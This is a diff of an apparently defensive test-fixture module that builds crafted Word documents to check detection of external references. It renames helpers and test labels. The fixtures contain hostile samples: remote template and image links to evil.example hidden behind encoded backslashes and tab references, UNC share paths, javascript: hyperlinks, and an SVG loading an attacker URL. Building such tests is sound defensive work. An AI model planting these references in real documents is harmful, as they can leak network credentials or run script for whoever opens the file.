@@ -37,11 +37,11 @@ export function docxWithSources(evil: string): [string, Buffer][] {
     external("attachedTemplate", "%5c%5cevil.example/share/t.dotm", "settings"),
     external("attachedTemplate", "/&#9;/evil.example/share/t.dotm", "settings"),
     external("hyperlink", "java&#9;script:alert(1)"),
-    ...besideRelationships(evil),
+    ...outsideRelationships(evil),
     [
-      "drawing by its URL",
+      "SVG that loads an image",
       docx([
-        typed("word/media/a.svg", "image/svg+xml"),
+        contentTypesWith("word/media/a.svg", "image/svg+xml"),
         {
           name: "word/media/a.svg",
           content: `<svg xmlns="http://www.w3.org/2000/svg"><image href="${evil}"/></svg>`,
@@ -70,11 +70,11 @@ export function docxWithSources(evil: string): [string, Buffer][] {
       ]),
     ],
     [
-      "target written in numbers",
+      "target with a character reference",
       docxRelated([{ type: "image", target: "&#104;ttps://evil.example/a", isExternal: true }]),
     ],
     [
-      "mode written in numbers",
+      "mode with a character reference",
       docx([
         {
           name: "word/_rels/document.xml.rels",
@@ -88,20 +88,18 @@ export function docxWithSources(evil: string): [string, Buffer][] {
   ];
 }
 
-/**
- * Word documents that name their images, or the fields of a form letter, outside of relationships.
- */
-function besideRelationships(url: string): [string, Buffer][] {
+/** Word documents that name their images, or the data of a form letter, outside of the list of relationships. */
+function outsideRelationships(url: string): [string, Buffer][] {
   return [
     ...drawings.map(([name, drawing]): [string, Buffer] => [name, docxWithBody(drawing(url))]),
     [
-      "drawing by a host behind its codes",
+      "picture on a host after encoded backslashes",
       docxWithBody(
-        `<w:p><v:imagedata ${officeNamespace} o:href="%5c%5cevil.example/a.png"/></w:p>`,
+        `<w:p><v:imagedata ${vmlOfficeNamespace} o:href="%5c%5cevil.example/a.png"/></w:p>`,
       ),
     ],
     [
-      "picture by a host behind a tab",
+      "picture on a host after an encoded tab",
       docxWithBody('<w:p><v:imagedata src="/&#9;/evil/a"/></w:p>'),
     ],
     ...mailMerges.map(([name, inside]): [string, Buffer] => [name, settingsWith(inside)]),
@@ -109,17 +107,17 @@ function besideRelationships(url: string): [string, Buffer][] {
 }
 
 /** Declares the prefix `o:` of Office's additions to drawings in VML. */
-export const officeNamespace = 'xmlns:o="urn:schemas-microsoft-com:office:office"';
+export const vmlOfficeNamespace = 'xmlns:o="urn:schemas-microsoft-com:office:office"';
 
 /** Drawings in VML that name their images outside of the list of relationships. */
 const drawings: [string, (url: string) => string][] = [
-  ["picture by o:href", (url) => `<w:p><v:imagedata ${officeNamespace} o:href="${url}"/></w:p>`],
+  ["picture by o:href", (url) => `<w:p><v:imagedata ${vmlOfficeNamespace} o:href="${url}"/></w:p>`],
   [
     "picture by o:althref",
-    (url) => `<w:p><v:imagedata ${officeNamespace} o:althref="${url}"/></w:p>`,
+    (url) => `<w:p><v:imagedata ${vmlOfficeNamespace} o:althref="${url}"/></w:p>`,
   ],
-  ["filling by o:href", (url) => `<w:p><v:fill ${officeNamespace} o:href="${url}"/></w:p>`],
-  ["line by o:href", (url) => `<w:p><v:stroke ${officeNamespace} o:href="${url}"/></w:p>`],
+  ["filling by o:href", (url) => `<w:p><v:fill ${vmlOfficeNamespace} o:href="${url}"/></w:p>`],
+  ["line by o:href", (url) => `<w:p><v:stroke ${vmlOfficeNamespace} o:href="${url}"/></w:p>`],
   ["picture by href", (url) => `<w:p><v:imagedata href="${url}"/></w:p>`],
   [
     "picture by o:href under another prefix",
@@ -127,8 +125,8 @@ const drawings: [string, (url: string) => string][] = [
       `<w:p><v:imagedata xmlns:q="urn:schemas-microsoft-com:office:office" q:href="${url}"/></w:p>`,
   ],
   [
-    "picture by o:href beside its relationship",
-    (url) => `<w:p><v:imagedata ${officeNamespace} r:href="rId1" o:href="${url}"/></w:p>`,
+    "picture by o:href in addition to a relationship",
+    (url) => `<w:p><v:imagedata ${vmlOfficeNamespace} r:href="rId1" o:href="${url}"/></w:p>`,
   ],
   ["drawing that links to a share", () => '<w:p><v:shape href="\\\\evil.example\\a"/></w:p>'],
   ["drawing that links to a script", () => '<w:p><v:rect href="javascript:alert(1)"/></w:p>'],
@@ -152,8 +150,8 @@ export function settingsWith(inside: string): Buffer {
   return docx([{ name: "word/settings.xml", content }]);
 }
 
-/** The document's list of content types, with one entry for the part `name`. */
-export function typed(name: string, type: string) {
+/** The document's list of content types, with an entry for the part `name`. */
+export function contentTypesWith(name: string, type: string) {
   return {
     name: "[Content_Types].xml",
     content: contentTypes(`<Override PartName="/${name}" ContentType="${type}"/>`),
